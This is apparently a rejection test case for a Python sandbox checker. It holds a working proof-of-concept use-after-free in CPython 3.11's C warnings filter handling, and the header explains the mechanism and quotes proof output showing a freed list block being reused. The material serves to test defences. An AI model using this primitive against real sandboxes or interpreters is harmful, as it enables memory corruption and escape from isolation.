# expect: reject store
# why: the twenty-second wall round: C warnings state replaced from the module while a filter's
#   callback runs (a use after free the runtime wall cannot hold off): the checker keeps it out
# line: 34
# ok_01 - memory corruption: use after free of the C warnings filter list (shown with a marker)
# Goal: a read of freed memory: the C warnings machinery keeps iterating a list that was
#   freed under it and is now a list the program made afterwards.
# Mechanism: 3.11's _warnings.c get_filter() does Py_SETREF(st->filters, warnings.filters)
#   and then walks `filters = st->filters` BORROWED, calling each filter's msg.match(text)
#   (the program's object) in the loop. Inside match the program sets warnings.filters to
#   a new list (st->filters is now the old list's only owner) and calls warnings.warn again:
#   the inner get_filter's Py_SETREF drops the old list, which is freed. The next list the
#   program builds takes the freed PyListObject from the list free list; the outer loop
#   goes on reading it (ob_size, ob_item), so the outer warn consults filters the program
#   put in a list it never installed. No audit event, no method the wall patched
#   (warnings / _warnings are not guarded at all); a plain module attribute write.
# Proof (sb-run, status: ok):
#   MARKER filter consulted by the outer warn (from a list made after the free): outer   (x6)
#   old list at 0x7f1070d67e00 fresh list at 0x7f1070d67e00 same block: True
import warnings
state = {"n": 0}
class Marker:
    def match(self, text):
        print("MARKER filter consulted by the outer warn (from a list made after the free):", text, flush=True)
        return False
IGN = ("ignore", None, Warning, None, 0)
MK = ("always", Marker(), Warning, None, 0)
keep = []
class M:
    def match(self, text):
        state["n"] += 1
        if state["n"] == 1:
            new = [IGN]
            warnings.filters = new
            warnings.warn("inner")   # inner get_filter: Py_SETREF(st->filters) frees the old list
            fresh = [IGN, MK, MK, MK, MK, MK, MK]   # takes the freed list's struct
            keep.append(fresh)
        return False
old = [("always", M(), Warning, None, 0), IGN, IGN, IGN, IGN, IGN, IGN]
oid = id(old)
warnings.filters = old
del old
warnings.warn("outer")
print("old list at", hex(oid), "fresh list at", hex(id(keep[0])), "same block:", oid == id(keep[0]))
print("done")
